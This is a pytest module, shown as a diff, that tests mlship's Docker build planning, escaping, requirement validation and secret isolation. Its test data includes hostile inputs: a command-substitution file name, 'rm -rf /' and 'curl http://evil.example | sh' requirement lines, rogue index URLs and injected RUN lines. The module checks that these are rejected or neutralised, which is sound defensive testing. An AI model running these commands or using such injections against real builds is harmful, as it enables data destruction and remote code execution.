@@ -1,0 +1,472 @@
+"""`mlship build`: the plan (golden Dockerfile, layer order, quoting, requirements, base image), the
+build context (lock hashes, mlship wheel, no secrets) and real builds of the iris example.
+
+Real builds are few: the session fixture `iris_image` builds once; this module adds a model-only rebuild
+(through the CLI) and a build of a hostile file name, both of which reuse the dependency layers.
+"""
+
+from __future__ import annotations
+
+import difflib
+import hashlib
+import os
+import re
+import shutil
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import joblib
+import pytest
+import sklearn
+import yaml
+from typer.testing import CliRunner
+
+import mlship
+from conftest import TEST_BASE_IMAGE
+from mlship.build import context, engine, wheelhouse
+from mlship.build.context import build_pins, plan_build, write_context
+from mlship.cli import app
+from mlship.contract_io import artifact_sha256, load_project
+from mlship.errors import BuildError, EngineError
+from mlship.init import init_project
+
+GOLDEN = Path(__file__).parent / "golden"
+# The wheel cache the session build uses (HOME is a temp folder inside each test, see conftest).
+WHEEL_CACHE = wheelhouse.cache_dir()
+HOSTILE_ARTIFACT = 'model/ir"is $(touch x).joblib'
+UNREACHABLE = "tcp://127.0.0.1:1"
+
+
+def invoke(*args: str) -> Any:
+    return CliRunner().invoke(app, list(args))
+
+
+def plain(text: str) -> str:
+    return " ".join(text.split())
+
+
+def edit_contract(directory: Path, change: Callable[[dict[str, Any]], None]) -> None:
+    path = directory / "mlship.yaml"
+    data = yaml.safe_load(path.read_text())
+    change(data)
+    path.write_text(yaml.safe_dump(data, sort_keys=False))
+
+
+def set_requirements(*lines: str) -> Callable[[dict[str, Any]], None]:
+    def change(data: dict[str, Any]) -> None:
+        data["dependencies"]["requirements"] = list(lines)
+
+    return change
+
+
+@pytest.fixture
+def wheel_cache(monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Share the session's wheel cache, so write_context does not download the wheelhouse again."""
+    monkeypatch.setenv("MLSHIP_CACHE", str(WHEEL_CACHE))
+    return WHEEL_CACHE
+
+
+def copy_project(src: Path, dest: Path) -> Path:
+    shutil.copytree(src, dest, ignore=shutil.ignore_patterns(".mlship"))
+    return dest
+
+
+# --- the plan: golden Dockerfile, layer order, quoting --------------------------------------------
+GOLDEN_CONTRACT = """\
+name: iris
+runtime: sklearn
+artifact: model/iris.joblib
+task: classification
+input:
+  features: {sepal_length: float, sepal_width: float, petal_length: float, petal_width: float}
+output:
+  labels: [setosa, versicolor, virginica]
+dependencies:
+  python: "3.11"
+  requirements: [scikit-learn==1.5.2, pandas==2.2.3]
+docs: MODEL.md
+examples:
+  - input: {sepal_length: 5.1, sepal_width: 3.5, petal_length: 1.4, petal_width: 0.2}
+    output: {label: setosa}
+"""
+
+
+@pytest.fixture
+def fixed_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The iris contract with fixed bytes everywhere, so its plan is the same on every machine."""
+    monkeypatch.setattr(context, "__version__", "0.0.0+golden")
+    monkeypatch.setattr(context, "git_commit", lambda _path: None)
+    monkeypatch.delenv("MLSHIP_BASE_IMAGE", raising=False)
+    (tmp_path / "model").mkdir()
+    (tmp_path / "model" / "iris.joblib").write_bytes(b"golden iris model\n")
+    (tmp_path / "MODEL.md").write_text("# iris\n")
+    (tmp_path / "mlship.yaml").write_text(GOLDEN_CONTRACT)
+    return tmp_path
+
+
+def test_dockerfile_matches_golden(fixed_project: Path) -> None:
+    """Regenerate with MLSHIP_UPDATE_GOLDEN=1 after an intended template change (and review the diff)."""
+    plan = plan_build(load_project(fixed_project), pins={})
+    golden = GOLDEN / "iris.Dockerfile"
+    if os.environ.get("MLSHIP_UPDATE_GOLDEN") == "1":
+        golden.parent.mkdir(exist_ok=True)
+        golden.write_text(plan.dockerfile)
+    assert golden.is_file(), f"{golden} is missing: run with MLSHIP_UPDATE_GOLDEN=1 to write it"
+    expected = golden.read_text().splitlines()
+    got = plan.dockerfile.splitlines()
+    diff = "\n".join(difflib.unified_diff(expected, got, "golden/iris.Dockerfile", "plan", lineterm=""))
+    assert got == expected, f"Dockerfile changed (MLSHIP_UPDATE_GOLDEN=1 to accept):\n{diff}"
+    assert plan.base_image == "python:3.11-slim"
+    assert plan.tag == "iris:" + hashlib.sha256(b"golden iris model\n").hexdigest()[:12]
+
+
+def _instructions(dockerfile: str) -> list[str]:
+    """Instructions with continuation lines joined, comments and blank lines dropped."""
+    text = re.sub(r"\\\n", " ", dockerfile)
+    return [line.strip() for line in text.splitlines() if line.strip() and not line.startswith("#")]
+
+
+def test_layer_order_base_deps_mlship_model_contract_labels(fixed_project: Path) -> None:
+    lines = _instructions(plan_build(load_project(fixed_project), pins={}).dockerfile)
+
+    def at(predicate: Callable[[str], bool]) -> int:
+        found = [i for i, line in enumerate(lines) if predicate(line)]
+        assert len(found) == 1, (found, lines)
+        return found[0]
+
+    deps_from = at(lambda s: s.startswith("FROM ") and s.endswith(" AS deps"))
+    lock = at(lambda s: s.startswith("COPY requirements.lock"))
+    pip = at(lambda s: "--require-hashes" in s)
+    mlship_copy = at(lambda s: s.startswith("COPY mlship/"))
+    mlship_install = at(lambda s: "--no-deps /build/mlship/" in s)
+    final_from = at(lambda s: s.startswith("FROM ") and " AS " not in s)
+    venv = at(lambda s: s.startswith("COPY --from=deps"))
+    model = at(lambda s: s.startswith("COPY model/"))
+    contract = at(lambda s: s.startswith("COPY contract/"))
+    user = at(lambda s: s.startswith("USER "))
+    assert deps_from < lock < pip < mlship_copy < mlship_install < final_from < venv < model < contract < user
+    labels = [i for i, line in enumerate(lines) if line.startswith("LABEL ")]
+    assert labels == list(range(len(lines) - len(labels), len(lines))), "labels must be the last instructions"
+    assert lines[user].split()[1].split(":")[0] != "0"
+
+
+def hostile_project(directory: Path, model: Path) -> Path:
+    """The iris project with the artifact at `model/ir"is $(touch x).joblib`, saved with mode 0600."""
+    target = directory / HOSTILE_ARTIFACT
+    target.parent.mkdir(parents=True)
+    shutil.copy(model, target)
+    target.chmod(0o600)
+    init_project(target, directory=directory)
+    return directory
+
+
+def test_hostile_file_name_never_reaches_the_dockerfile(tmp_path: Path, iris_model: Path,
+                                                        wheel_cache: Path) -> None:
+    project = load_project(hostile_project(tmp_path / "p", iris_model))
+    assert project.contract.artifact == HOSTILE_ARTIFACT
+    plan = plan_build(project, base=TEST_BASE_IMAGE, pins={})
+    assert "ir\"is" not in plan.dockerfile and "$(" not in plan.dockerfile
+    copies = [line for line in _instructions(plan.dockerfile) if line.startswith("COPY ")]
+    assert copies == ["COPY requirements.lock /build/requirements.lock", "COPY wheels/ /build/wheels/",
+                      "COPY mlship/ /build/mlship/", "COPY --from=deps /opt/venv /opt/venv",
+                      "COPY model/ /app/", "COPY contract/ /app/"]
+    ctx = write_context(plan, tmp_path / "ctx")
+    copied = ctx / "model" / HOSTILE_ARTIFACT
+    assert copied.read_bytes() == iris_model.read_bytes()
+    assert copied.stat().st_mode & 0o444 == 0o444, "the image's non-root user must be able to read the model"
+    assert (ctx / "contract" / "mlship.yaml").read_bytes() == project.contract_path.read_bytes()
+    assert not (tmp_path / "x").exists() and not Path("x").exists()
+
+
+@pytest.mark.parametrize("line", ["foo; rm -rf /", "x==1 && curl http://evil.example | sh",
+                                  "numpy\n--index-url http://evil.example/simple", "--extra-index-url http://evil",
+                                  "-e .", "numpy==2.0 --hash=sha256:00"])
+def test_hostile_requirement_lines_are_rejected(iris_dir: Path, line: str) -> None:
+    edit_contract(iris_dir, set_requirements(f"scikit-learn=={sklearn.__version__}", line))
+    with pytest.raises(BuildError) as info:
+        plan_build(load_project(iris_dir), pins={})
+    assert f"dependencies.requirements: {line!r} is not a valid requirement" in info.value.message
+    assert info.value.fix is not None and "pip requirement syntax" in info.value.fix
+
+
+def test_url_requirement_is_rejected(iris_dir: Path) -> None:
+    edit_contract(iris_dir, set_requirements("pkg @ https://example.com/pkg-1.0-py3-none-any.whl"))
+    with pytest.raises(BuildError, match="is a URL requirement"):
+        plan_build(load_project(iris_dir), pins={})
+
+
+@pytest.mark.parametrize("outside", ["relative", "absolute"])
+def test_files_outside_the_project_are_refused(iris_dir: Path, outside: str) -> None:
+    root = iris_dir / "p"
+    root.mkdir()
+    for name in ("mlship.yaml", "MODEL.md"):
+        (iris_dir / name).rename(root / name)
+    model = iris_dir / "model" / "iris.joblib"
+    artifact = "../model/iris.joblib" if outside == "relative" else str(model)
+    edit_contract(root, lambda d: d.update(artifact=artifact))
+    with pytest.raises(BuildError, match="is outside the project folder") as info:
+        plan_build(load_project(root), pins={})
+    assert info.value.fix is not None and "relative path" in info.value.fix
+
+
+def test_other_contract_file_name_is_mlship_yaml_in_the_image(iris_dir: Path) -> None:
+    (iris_dir / "mlship.yaml").rename(iris_dir / "prod.yaml")
+    plan = plan_build(load_project(iris_dir / "prod.yaml"), pins={})
+    contract = [(src.name, ctx) for src, ctx in plan.files if ctx.startswith("contract/")]
+    assert ("prod.yaml", "contract/mlship.yaml") in contract
+    assert '"/app/mlship.yaml"]' in plan.dockerfile
+
+
+@pytest.mark.parametrize("value", ['a"b', "$HOME", "back\\slash", "it's <b>&"])
+def test_docker_string_escapes_what_the_builder_expands(value: str) -> None:
+    quoted = context.docker_string(value)
+    assert quoted.startswith('"') and quoted.endswith('"')
+    inner = quoted[1:-1]
+    assert re.sub(r"\\(.)", r"\1", inner) == value  # the builder's unescaping gives the value back
+    assert not re.search(r'(?<!\\)(\\\\)*[$"]', inner), "unescaped $ or quote"
+    with pytest.raises(BuildError, match="control characters"):
+        context.docker_string("a\nRUN curl evil")
+
+
+# --- requirements: version skew -------------------------------------------------------------------
+SAVED = sklearn.__version__
+
+
+def test_build_pins_read_the_saved_version(iris_dir: Path) -> None:
+    assert build_pins(load_project(iris_dir)) == {"scikit-learn": SAVED}
+
+
+def test_version_skew_names_both_versions_and_the_fix(iris_dir: Path) -> None:
+    edit_contract(iris_dir, set_requirements("scikit-learn==1.0.0"))
+    with pytest.raises(BuildError) as info:
+        plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
+    err = info.value
+    assert f"saved with scikit-learn {SAVED}" in err.message and "scikit-learn==1.0.0" in err.message
+    assert err.fix is not None and f"Require scikit-learn=={SAVED} in mlship.yaml" in err.fix
+    assert err.why is not None and "pickle" in err.why
+
+
+@pytest.mark.parametrize("spec", [">=1.0,<99", "~=1.0", "==1.*"])
+def test_range_containing_the_saved_version_is_narrowed(iris_dir: Path, spec: str) -> None:
+    edit_contract(iris_dir, set_requirements(f"scikit-learn{spec}", "pandas"))
+    plan = plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
+    assert plan.requirements[:2] == [f"scikit-learn=={SAVED}", "pandas"]
+    assert any(f"pinned scikit-learn=={SAVED} (within your" in note for note in plan.notes), plan.notes
+
+
+def test_absent_framework_is_added_and_server_packages_pinned(iris_dir: Path) -> None:
+    edit_contract(iris_dir, set_requirements("pandas"))
+    plan = plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
+    assert f"scikit-learn=={SAVED}" in plan.requirements
+    assert plan.notes == [f"pinned scikit-learn=={SAVED}, the version the artifact was saved with"]
+    names = [context.requirement_name(r) for r in plan.requirements]
+    assert len(names) == len(set(names))
+    assert {"uvicorn", "orjson", "numpy", "pydantic"} <= set(names)
+    assert all("==" in r for r in plan.requirements if context.requirement_name(r) != "pandas")
+
+
+def test_exact_pin_is_kept_without_a_note(iris_dir: Path) -> None:
+    plan = plan_build(load_project(iris_dir), pins={"scikit-learn": SAVED})
+    assert f"scikit-learn=={SAVED}" in plan.requirements and plan.notes == []
+
+
+# --- base image resolution --------------------------------------------------------------------------
+def test_base_image_precedence(iris_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("MLSHIP_BASE_IMAGE", raising=False)
+    assert context.base_image(load_project(iris_dir)) == "python:3.11-slim"
+    edit_contract(iris_dir, lambda d: d["dependencies"].update(python="3.12"))
+    assert context.base_image(load_project(iris_dir)) == "python:3.12-slim"
+    edit_contract(iris_dir, lambda d: d.update(build={"base_image": "registry.example/team/py:3.12"}))
+    project = load_project(iris_dir)
+    assert context.base_image(project) == "registry.example/team/py:3.12"
+    monkeypatch.setenv("MLSHIP_BASE_IMAGE", "localhost:5000/py@sha256:" + "a" * 64)
+    assert context.base_image(project) == "localhost:5000/py@sha256:" + "a" * 64
+    assert context.base_image(project, "python:3.11-bookworm") == "python:3.11-bookworm"
+    assert plan_build(project, base="python:3.11-bookworm", pins={}).dockerfile.count(
+        "FROM python:3.11-bookworm") == 2
+
+
+@pytest.mark.parametrize("ref", ["Python:3.11", "python:3.11 AS evil", "python:3.11\n", "python:3.11\nRUN x",
+                                 "-python", "python:3.11-", "python 3.11", "python:3.11;rm"])
+def test_invalid_base_image_is_refused(iris_dir: Path, ref: str) -> None:
+    with pytest.raises(BuildError, match="is not a valid image reference") as info:
+        context.base_image(load_project(iris_dir), ref)
+    assert info.value.fix is not None and "python:3.11-slim" in info.value.fix
+
+
+# --- the build context ------------------------------------------------------------------------------
+def test_lock_has_a_hash_for_every_wheel(iris_dir: Path, wheel_cache: Path) -> None:
+    project = load_project(iris_dir)
+    plan = plan_build(project, base=TEST_BASE_IMAGE, pins=build_pins(project))
+    ctx = write_context(plan, iris_dir / ".mlship" / "build")
+    lines = [ln for ln in (ctx / "requirements.lock").read_text().splitlines() if not ln.startswith("#")]
+    locked = {}
+    for line in lines:
+        found = re.fullmatch(r"([a-z0-9-]+)==(\S+) --hash=sha256:([0-9a-f]{64})", line)
+        assert found, f"lock line without an exact version and hash: {line!r}"
+        locked[found.group(1)] = (found.group(2), found.group(3))
+    wheels = sorted((ctx / "wheels").glob("*.whl"))
+    assert len(wheels) == len(locked)
+    for wheel in wheels:
+        name, ver, _build, _tags = wheelhouse.parse_wheel_filename(wheel.name)
+        assert locked[str(name)] == (str(ver), hashlib.sha256(wheel.read_bytes()).hexdigest())
+    assert locked["scikit-learn"][0] == SAVED
+    assert {"numpy", "uvicorn", "orjson", "pydantic", "scipy"} <= set(locked)
+    assert (ctx / ".dockerignore").read_text().split() == ["Dockerfile", ".dockerignore"]
+    assert len(list((ctx / "mlship").glob("mlship-*.whl"))) == 1
+
+
+def test_no_host_secrets_in_the_dockerfile_or_context(iris_dir: Path, wheel_cache: Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    secrets = {"MLSHIP_API_KEYS": "sk-host-secret-1,sk-host-secret-2", "AWS_SECRET_ACCESS_KEY": "aws-host-secret"}
+    for name, value in secrets.items():
+        monkeypatch.setenv(name, value)
+    project = load_project(iris_dir)
+    plan = plan_build(project, base=TEST_BASE_IMAGE, pins={"scikit-learn": SAVED})
+    ctx = write_context(plan, iris_dir / ".mlship" / "build")
+    for path in [p for p in ctx.rglob("*") if p.is_file()]:
+        data = path.read_bytes()
+        for name, value in secrets.items():
+            for part in [name, *value.split(",")]:
+                assert part.encode() not in data, f"{part} leaked into {path.relative_to(ctx)}"
+
+
+def _package_copy(tmp_path: Path) -> Path:
+    src = Path(mlship.__file__).resolve().parent
+    dest = tmp_path / "src" / "mlship"
+    shutil.copytree(src, dest, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
+    return dest
+
+
+def test_mlship_wheel_is_deterministic_and_complete(tmp_path: Path) -> None:
+    first = wheelhouse.mlship_wheel(tmp_path / "a")
+    second = wheelhouse.mlship_wheel(tmp_path / "b")
+    assert first.name == second.name and first.read_bytes() == second.read_bytes()
+    assert re.fullmatch(rf"mlship-{re.escape(mlship.__version__)}-1[0-9a-f]{{12}}-py3-none-any\.whl", first.name)
+    with zipfile.ZipFile(first) as zf:
+        names = set(zf.namelist())
+        record = zf.read(f"mlship-{mlship.__version__}.dist-info/RECORD").decode()
+    assert {"mlship/serving/__main__.py", "mlship/serving/app.py", "mlship/templates/Dockerfile.j2",
+            "mlship/py.typed"} <= names
+    assert not [n for n in names if n.endswith((".pyc", ".pyo")) or "__pycache__" in n]
+    assert all(name in record for name in names)
+
+
+def test_mlship_wheel_name_changes_with_the_source(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    before = wheelhouse.mlship_wheel(tmp_path / "current").name
+    package = _package_copy(tmp_path)
+    monkeypatch.setattr(mlship, "__file__", str(package / "__init__.py"))
+    assert wheelhouse.mlship_wheel(tmp_path / "copy").name == before  # same content, same name
+    with (package / "serving" / "app.py").open("a") as fh:
+        fh.write("\n# changed\n")
+    changed = wheelhouse.mlship_wheel(tmp_path / "copy")
+    assert changed.name != before
+    assert [p.name for p in (tmp_path / "copy").glob("*.whl")] == [changed.name], "old wheel not removed"
+
+
+# --- the CLI and the engine ---------------------------------------------------------------------------
+def test_dry_run_prints_the_dockerfile_and_builds_nothing(iris_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DOCKER_HOST", UNREACHABLE)  # a dry run must not even need an engine
+    result = invoke("build", "--dry-run", "-f", str(iris_dir), "--base-image", TEST_BASE_IMAGE)
+    assert result.exit_code == 0, result.output
+    project = load_project(iris_dir)
+    assert f"image: iris:{project.version}" in result.stdout
+    assert f"base: {TEST_BASE_IMAGE}" in result.stdout
+    assert f"scikit-learn=={SAVED}" in result.stdout
+    assert "files: model/model/iris.joblib, contract/MODEL.md, contract/mlship.yaml" in result.stdout
+    dockerfile = result.stdout.split("--- Dockerfile\n", 1)[1]
+    assert dockerfile.strip() == plan_build(project, base=TEST_BASE_IMAGE, pins={}).dockerfile.strip()
+    assert not (iris_dir / ".mlship").exists()
+
+
+def test_unreachable_engine_says_how_to_fix(iris_dir: Path, wheel_cache: Path,
+                                            monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DOCKER_HOST", UNREACHABLE)
+    with pytest.raises(EngineError) as info:
+        engine.client()
+    assert info.value.message.startswith(f"Cannot reach the Docker engine at {UNREACHABLE}")
+    assert info.value.fix is not None and "DOCKER_HOST" in info.value.fix and "dockerd" in info.value.fix
+    result = invoke("build", "-f", str(iris_dir), "--base-image", TEST_BASE_IMAGE)
+    assert result.exit_code == 1
+    assert "error: Cannot reach the Docker engine" in plain(result.stderr)
+    assert "fix: Start Docker" in plain(result.stderr)
+
+
+# --- real builds ----------------------------------------------------------------------------------------
+def test_image_labels(iris_image: tuple[Path, str]) -> None:
+    root, tag = iris_image
+    project = load_project(root)
+    labels = engine.inspect(tag).labels
+    assert labels["org.opencontainers.image.title"] == "iris"
+    assert labels["org.opencontainers.image.version"] == project.version == tag.split(":")[1]
+    assert labels["dev.mlship.model-sha256"] == artifact_sha256(project.artifact_path)
+    assert labels["dev.mlship.contract-sha256"] == hashlib.sha256(project.contract_path.read_bytes()).hexdigest()
+    assert labels["dev.mlship.version"] == mlship.__version__
+    assert labels["dev.mlship.runtime"] == "sklearn"
+
+
+def test_image_runs_as_non_root(iris_image: tuple[Path, str], docker_engine: Any) -> None:
+    _root, tag = iris_image
+    out = docker_engine.containers.run(tag, ["id", "-u"], remove=True).decode().strip()
+    assert out.isdigit() and int(out) != 0
+
+
+def _steps(log: str) -> dict[str, bool]:
+    """Build log -> {instruction: reused from the cache}."""
+    steps = {}
+    for block in re.split(r"^Step \d+/\d+ : ", log, flags=re.M)[1:]:
+        steps[block.splitlines()[0].strip()] = "---> Using cache" in block
+    return steps
+
+
+def test_model_only_rebuild_reuses_the_dependency_layers(iris_image: tuple[Path, str], tmp_path: Path,
+                                                         wheel_cache: Path, docker_engine: Any) -> None:
+    """`mlship build` through the CLI after a model-only change: one build, deps from the cache."""
+    root = copy_project(iris_image[0], tmp_path / "p")
+    model = root / "model" / "iris.joblib"
+    joblib.dump(joblib.load(model), model, compress=0)  # same model, new bytes: a new version
+    project = load_project(root)
+    tag = f"iris:{project.version}"
+    assert tag != iris_image[1]
+    result = invoke("build", "-f", str(root), "--base-image", TEST_BASE_IMAGE)
+    try:
+        assert result.exit_code == 0, result.output
+        assert re.search(rf"built {re.escape(tag)} sha256:[0-9a-f]{{12}} \d+\.\d MB in \d+\.\ds",
+                         plain(result.stdout)), result.stdout
+        steps = _steps((root / ".mlship" / "build.log").read_text())
+        reused = {instr: hit for instr, hit in steps.items() if not instr.startswith("FROM ")}
+        pip = [hit for instr, hit in reused.items() if "--require-hashes" in instr]
+        assert pip == [True], steps
+        order = list(reused)
+        deps = order[:order.index("COPY mlship/ /build/mlship/")]
+        assert deps and all(reused[instr] for instr in deps), steps
+        # mlship and the venv copy are reused too, unless mlship's source changed since the session build
+        wheels = [next((p / ".mlship" / "build" / "mlship").glob("*.whl")).name for p in (iris_image[0], root)]
+        if wheels[0] == wheels[1]:
+            mlship_to_model = order[order.index("COPY mlship/ /build/mlship/"):order.index("COPY model/ /app/")]
+            assert all(reused[instr] for instr in mlship_to_model), steps
+        assert not reused["COPY model/ /app/"], "the model layer must be rebuilt"
+        assert engine.inspect(tag).labels["dev.mlship.model-sha256"] == artifact_sha256(model)
+    finally:
+        if docker_engine.images.list(name=tag):
+            docker_engine.images.remove(tag)
+
+
+def test_hostile_file_name_builds_and_loads_as_the_image_user(tmp_path: Path, iris_image: tuple[Path, str],
+                                                              iris_model: Path, wheel_cache: Path,
+                                                              docker_engine: Any) -> None:
+    project = load_project(hostile_project(tmp_path / "p", iris_model))
+    ctx = write_context(plan_build(project, base=TEST_BASE_IMAGE, pins={"scikit-learn": SAVED}), tmp_path / "ctx")
+    tag = "mlship-test-hostile:1"
+    engine.build(ctx, tag)
+    try:
+        code = ("import os, sys, joblib; m = joblib.load(sys.argv[1]); "
+                "print(os.getuid(), type(m).__name__, os.listdir('/app/model'))")
+        out = docker_engine.containers.run(tag, ["python", "-c", code, "/app/" + HOSTILE_ARTIFACT],
+                                           remove=True).decode()
+        assert out.split(" ", 2)[:2] == ["10001", "Pipeline"], out
+        assert repr(HOSTILE_ARTIFACT.split("/")[1]) in out
+    finally:
+        docker_engine.images.remove(tag)
